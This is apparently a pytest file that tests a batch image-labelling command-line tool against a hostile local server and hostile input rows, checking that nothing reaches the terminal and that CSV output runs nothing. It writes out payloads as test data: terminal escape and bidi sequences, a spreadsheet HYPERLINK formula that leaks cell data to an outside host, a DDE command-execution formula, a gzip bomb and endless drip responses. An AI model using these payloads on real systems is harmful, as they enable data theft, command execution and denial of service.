"""Hostile rows and hostile answers through the whole command: nothing moves the cursor, nothing runs, nothing hangs."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from harness import Workbench

from batchvision.emulator import EmulatorOptions, start_in_thread

#: What must reach no terminal: controls but tab and newline, line separators, whatever turns text around.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
NASTY = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202egpj.exe\u2066\x9b2J\x85\u2028\r0 of 0 rows"


def answer(text: str, **more: object) -> bytes:
    choice = {"index": 0, "message": {"role": "assistant", "content": text, **more}, "finish_reason": "stop"}
    usage = {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2, "cost_in_usd_ticks": 5}
    return json.dumps({"id": "r", "model": "m", "choices": [choice], "usage": usage}).encode()


def drip(handler: BaseHTTPRequestHandler) -> None:
    """A body of a byte now and then, for ever."""
    handler.send_response(200)
    handler.send_header("content-type", "application/json")
    handler.end_headers()
    try:
        while True:
            handler.wfile.write(b" ")
            handler.wfile.flush()
            time.sleep(0.05)
    except OSError:
        pass


def drip_headers(handler: BaseHTTPRequestHandler) -> None:
    """Header lines of a few bytes now and then, for ever."""
    try:
        handler.wfile.write(b"HTTP/1.1 200 OK\r\n")
        while True:
            handler.wfile.write(b"x-a: b\r\n")
            handler.wfile.flush()
            time.sleep(0.05)
    except OSError:
        pass


def bomb(handler: BaseHTTPRequestHandler) -> None:
    """200 MB of blanks in 200 kB."""
    body = gzip.compress(b" " * 200_000_000, 1)
    handler.send_response(200)
    handler.send_header("content-encoding", "gzip")
    handler.send_header("content-length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


def error(message: str, status: int) -> Callable[[BaseHTTPRequestHandler], None]:
    def say(handler: BaseHTTPRequestHandler) -> None:
        body = json.dumps({"error": {"message": message, "code": message}}, ensure_ascii=False).encode()
        handler.send_response(status, "no")
        handler.send_header("content-length", str(len(body)))
        handler.send_header("set-cookie", "\x1b[2J=1; Expires=never")
        handler.end_headers()
        handler.wfile.write(body)

    return say


#: Row -> what comes back, and what becomes of the row (None: it is answered).
CASES: dict[str, tuple[bytes | Callable[[BaseHTTPRequestHandler], None], str | None]] = {
    "fine": (answer('{"say": "fine", "score": 1}'), None),
    "controls": (answer(json.dumps({"say": NASTY, "score": 1}, ensure_ascii=False)), None),
    "formula": (answer('{"say": "=HYPERLINK(\\"http://x/?\\"&A1)", "score": -1}'), None),
    "wrong type": (answer('{"say": "as text/html", "score": 1}'), None),
    "refused": (answer("", refusal=NASTY), "refused"),
    "nan": (answer('{"say": "x", "score": NaN}'), "invalid_answer"),
    "infinity": (answer('{"say": "x", "score": 1e999}'), "invalid_answer"),
    "twice": (answer('{"say": "x", "score": 1, "score": 2}'), "invalid_answer"),
    "deep": (answer('{"say": ' * 500 + "1" + "}" * 500), "invalid_answer"),
    "deep body": (b'{"choices": ' + b"[" * 100_000, "attempts_exhausted"),
    "html": (b"<!DOCTYPE html><title>\x1b[2J</title>", "attempts_exhausted"),
    "no json": (b"\xff\xfe\x00\x1b[2J", "attempts_exhausted"),
    "empty": (b"", "attempts_exhausted"),
    "drip": (drip, "attempts_exhausted"),
    "headers": (drip_headers, "attempts_exhausted"),
    "bomb": (bomb, "attempts_exhausted"),
    "rejected": (error(NASTY, 422), "request_rejected"),
    "failing": (error(NASTY, 500), "attempts_exhausted"),
}


class Hostile(BaseHTTPRequestHandler):
    """Answers each row with its case."""

    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["content-length"])).decode()
        sent, _ = CASES[re.search(r"case=([a-z ]+)\.", body)[1]]  # type: ignore[index]
        self.close_connection = True
        if not isinstance(sent, bytes):
            sent(self)
            return
        self.send_response(200)
        self.send_header("content-type", "text/html" if b"text/html" in sent else "application/json")
        self.send_header("content-length", str(len(sent)))
        self.end_headers()
        self.wfile.write(sent)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def provider() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/v1"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def bench(tmp_path: Path) -> Workbench:
    return Workbench(tmp_path)


def assert_quiet(*said: str) -> None:
    for text in said:
        assert not UNSAFE.search(text), f"{UNSAFE.search(text)} in {text[:2000]!r}"


def test_hostile_answers_fail_their_rows_and_nothing_they_say_reaches_the_terminal(
    bench: Workbench, provider: str
) -> None:
    images = bench.images()
    rows = [
        {"sku": case, "image": images[place % 20], "title": f"t {place}", "hint": f"case={case}."}
        for place, case in enumerate(CASES)
    ]
    schema = '{ type = "object", properties = { say = { type = "string" }, score = { type = "number" } } }'
    job = bench.job(
        bench.manifest(rows),
        answer=f"schema = {schema}",
        limits='request_timeout_seconds = 3\nmax_attempts = 1\nmax_failed = "100%"',
    )
    done = bench.call("run", job, "--provider", "xai", "--base-url", provider)
    assert done.returncode == 3, done.stderr
    answered = {row["row_id"]: row for row in bench.table("results")}
    failed = {row["row_id"]: row["error_kind"] for row in bench.table("failures")}
    assert failed == {case: kind for case, (_, kind) in CASES.items() if kind}
    assert set(answered) == {case for case, (_, kind) in CASES.items() if kind is None}
    assert answered["controls"]["answer_say"] == NASTY, "what is stored is what was said"
    last = {row["row_id"]: row["last_error_kind"] for row in bench.table("failures")}
    assert (last["drip"], last["headers"]) == ("answer_cut_short", "timeout"), "the deadline ends what never ends"
    messages = [row["error_message"] or "" for name in ("failures", "attempts") for row in bench.table(name)]
    assert_quiet(done.stdout, done.stderr, *messages)
    for words in (("status",), ("status", "--json"), ("show",), ("show", "--status", "failed")):
        told = bench.call(*words, "out")
        assert told.returncode == 0, told.stderr
        assert_quiet(told.stdout, told.stderr)
    assert_json_and_csv(bench)


def assert_json_and_csv(bench: Workbench) -> None:
    """Both are safe to look at; JSON keeps the value, CSV runs nothing."""
    lines = bench.call("show", "--format", "jsonl", "out").stdout
    assert_quiet(lines)
    told = {row["row_id"]: row for row in map(json.loads, lines.splitlines())}
    assert told["controls"]["answer_say"] == NASTY
    table = bench.call("show", "--format", "csv", "out").stdout
    assert_quiet(table)
    rows = {row["row_id"]: row for row in csv.DictReader(io.StringIO(table))}
    assert rows["formula"]["answer_say"].startswith("'=HYPERLINK")
    assert float(rows["formula"]["answer_score"]) == -1.0


def test_hostile_rows_reach_no_terminal_and_break_no_command(bench: Workbench) -> None:
    images = bench.images()
    names = [NASTY, "=cmd|' /C calc'!A1", "line\nerror: faked", "\u202eevil", "x" * 5000, "@SUM(1)", "-1+1", "\tx"]
    rows = [
        {
            "sku": name,
            "image": images[place],
            "title": f"{name} {{image}}",
            "hint": "[[fault:rejected]]" if place % 2 else "",
        }
        for place, name in enumerate(names)
    ]
    rows += [{**rows[0], "title": "again"}, {**rows[0], "sku": "big", "title": "y" * 2_000_000}]
    path = bench.folder / "photos.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    job = bench.job(path)
    with start_in_thread(EmulatorOptions()) as emulator:
        where = ("--provider", "xai", "--base-url", f"{emulator.url}/xai/v1")
        said = [
            bench.call(*words, job, *where)
            for words in (("plan",), ("check",), ("run",), ("run", "--log-format", "json"))
        ]
    assert [done.returncode for done in said] == [0, 0, 3, 3], [done.stderr for done in said]
    said += [
        bench.call(*words, "out") for words in (("status",), ("show",), ("show", "--status", "failed"), ("verify",))
    ]
    said += [bench.call("show", "--format", form, "--status", "failed", "out") for form in ("csv", "jsonl")]
    assert all(done.returncode in (0, 3) for done in said), [done.stderr for done in said]
    assert_quiet(*(done.stdout for done in said), *(done.stderr for done in said))
    for done in said[:-2]:  # in CSV and JSON a line break belongs to its cell
        assert not re.search("^error: faked", done.stdout + done.stderr, re.MULTILINE)
    stored = {row["row_id"] for row in (*bench.table("results"), *bench.table("failures"))}
    assert len(stored) == len(rows)
    assert {"#5", "big", f"{NASTY}#2"} <= stored
    cells = [cell for line in csv.reader(io.StringIO(said[-2].stdout)) for cell in line]
    assert not [cell for cell in cells if cell.startswith(("=", "@", "\t"))]


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("m.csv", b"sku,image,title,hint\n1,a,b,c\n2,\xff\x1b[2J,b,c\n", "m.csv, line 3: not valid UTF-8"),
        ("m.csv", b"sku,image,title,hint\n1,a\x1b[2J\n", "line 2: 2 cells, but the header has 4"),
        ("m.csv", b"sku,image,\x1b[2Jtitle,hint\n", "no column 'title'"),
        ("m.jsonl", b'{"sku": 1, "image": "a", "title": "\x1b[2J', "line 1"),
        ("m.jsonl", b'{"sku": 1}\n{"sku": ' + b"[" * 100_000 + b"\n", "line 2"),
        ("m.parquet", b"PAR1\x1b[2JPAR1", "damaged"),
        ("m.csv", b"\x1b[2J" * 100, "no column"),
        ("m.csv", b'sku,image,title,hint\n1,a,b,"' + b"x" * 17_000_000, "line 2"),
    ],
)
def test_a_damaged_manifest_is_told_by_line_and_quietly(bench: Workbench, name: str, content: bytes, says: str) -> None:
    path = bench.folder / name
    path.write_bytes(content)
    job = bench.job(path, provider='base_url = "http://127.0.0.1:9/v1"')
    for command in ("plan", "run"):
        done = bench.call(command, job)
        assert done.returncode == 2, done.stderr
        assert says in done.stderr
        assert_quiet(done.stdout, done.stderr)
